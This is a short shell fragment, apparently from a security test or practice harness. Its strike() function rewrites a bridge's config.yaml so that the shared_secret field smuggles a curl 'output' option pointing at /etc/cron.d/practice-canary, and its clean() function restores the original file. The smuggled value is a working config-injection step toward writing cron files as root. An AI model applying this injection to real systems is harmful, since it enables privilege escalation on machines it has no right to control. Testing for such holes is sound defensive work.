# The bridge's user writes options of curl into the shared_secret of config.yaml, with line ends as YAML and curl spell them.
strike() {
  as 1337 cp -p $bridge/config.yaml $bridge/config.kept
  as 1337 sed -i 's/^\( *shared_secret: \).*/\1"x\\"\\noutput = \\"\/etc\/cron.d\/practice-canary"\n\1output = "\/etc\/cron.d\/practice-canary/' $bridge/config.yaml
  as 1337 grep -q cron.d $bridge/config.yaml
}
clean() { as 1337 mv $bridge/config.kept $bridge/config.yaml; }
